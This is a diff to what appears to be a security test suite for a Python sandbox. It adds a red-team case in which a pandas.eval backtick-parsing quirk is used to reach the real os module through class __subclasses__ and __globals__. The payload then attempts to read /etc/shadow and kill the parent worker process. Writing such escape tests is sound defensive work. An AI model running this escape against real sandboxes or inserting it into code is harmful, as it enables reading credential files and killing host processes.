@@ -428,6 +428,21 @@ return {'reached': str(real_os), 'outcomes': {
     'read_shadow': _try(lambda: real_os.open('/etc/shadow', 0)),
     'kill_worker': _try(lambda: real_os.kill(real_os.getppid(), 9))}}
 """, allowed=HIDDEN),
+    # From the third red team: parser="python" skips pandas' preparse, and pandas'
+    # backtick splitter reads '\\' as a string that never closes.
+    _p(name="pd_eval_python_parser_backticks", family="string to code", recover=False,
+       reaches="module 'os'", body=r"""
+t = (1,)
+E = "['\\\\', '`', t.__class__.__mro__[1].__subclasses__(), '`', '']"
+subs = pd.eval(E, engine='python', parser='python', local_dict=dict(t=t))[2]
+wrap = [c for c in subs if c.__name__ == '_wrap_close'][0]
+E2 = E.replace("t.__class__.__mro__[1].__subclasses__()", "wrap.__init__.__globals__")
+found = pd.eval(E2, engine='python', parser='python', local_dict=dict(wrap=wrap))[2]
+real_os = found['sys'].modules['os']
+return {'reached': str(real_os), 'outcomes': {
+    'read_shadow': _try(lambda: real_os.open('/etc/shadow', 0)),
+    'kill_worker': _try(lambda: real_os.kill(real_os.getppid(), 9))}}
+""", allowed=HIDDEN),
     _p(name="private_import_eval_type", family="string to code", recover=False,
        allowed=HIDDEN, reaches="module 'os'", body="""
 import typing
